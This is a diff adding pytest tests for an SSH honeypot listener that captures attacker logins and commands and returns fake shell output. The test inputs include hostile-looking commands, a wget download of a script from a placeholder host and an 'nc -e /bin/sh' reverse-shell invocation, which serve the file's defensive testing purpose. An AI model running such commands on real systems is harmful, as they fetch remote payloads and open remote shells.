@@ -0,0 +1,80 @@
+import asyncio
+import os
+import pytest
+
+asyncssh = pytest.importorskip("asyncssh")
+
+from controller.ssh_listener import SshListener, fake_output, load_host_key
+
+
+class _FakeManager:
+    def __init__(self):
+        self.calls = []
+
+    def run_trap(self, trap_type, input_data, ip):
+        self.calls.append((trap_type, input_data, ip))
+        return {}
+
+
+def _connect(port, **kw):
+    return asyncssh.connect("127.0.0.1", port, username="root", password="toor",
+                            known_hosts=None, **kw)
+
+
+def test_host_key_is_persisted_and_reused(tmp_path):
+    path = tmp_path / "keys" / "ssh_host_ed25519_key"
+    key = load_host_key(path)
+    assert path.exists() and (os.stat(path).st_mode & 0o777) == 0o600
+    assert load_host_key(path).get_fingerprint() == key.get_fingerprint()
+
+
+def test_login_and_commands_reach_ssh_trap(tmp_path):
+    manager = _FakeManager()
+
+    async def scenario():
+        listener = SshListener(manager, host="127.0.0.1", port=0,
+                               host_key=load_host_key(tmp_path / "key"), idle_timeout=5)
+        port = await listener.start()
+        try:
+            async with _connect(port) as conn:
+                result = await conn.run("uname -a")
+                assert "GNU/Linux" in result.stdout
+                async with conn.create_process(term_type="xterm") as proc:
+                    proc.stdin.write("whoami\nwget http://x/a.sh\nexit\n")
+                    out = await asyncio.wait_for(proc.stdout.read(), 5)
+                assert "root@" in out and "wget: command not found" in out
+        finally:
+            await listener.stop()
+        return listener
+
+    listener = asyncio.run(scenario())
+    assert manager.calls[0][:2] == ("ssh", {"username": "root", "password": "toor"})
+    assert [c[1] for c in manager.calls[1:]] == ["uname -a", "whoami", "wget http://x/a.sh", "exit"]
+    assert all(c[0] == "ssh" and c[2] == "127.0.0.1" for c in manager.calls)
+    assert listener.active == 0 and listener.accepted == 1
+
+
+def test_max_connections_rejects_extra_clients(tmp_path):
+    manager = _FakeManager()
+
+    async def scenario():
+        listener = SshListener(manager, host="127.0.0.1", port=0, host_key=load_host_key(tmp_path / "key"),
+                               max_connections=1)
+        port = await listener.start()
+        try:
+            async with _connect(port):
+                with pytest.raises((asyncssh.Error, OSError)):
+                    async with _connect(port, login_timeout=5):
+                        pass
+        finally:
+            await listener.stop()
+        return listener
+
+    listener = asyncio.run(scenario())
+    assert listener.rejected == 1 and listener.accepted == 1
+
+
+def test_fake_output():
+    assert fake_output("whoami", "admin") == "admin"
+    assert fake_output("  uname   -a ").startswith("Linux ")
+    assert fake_output("nc -e /bin/sh") == "-bash: nc: command not found"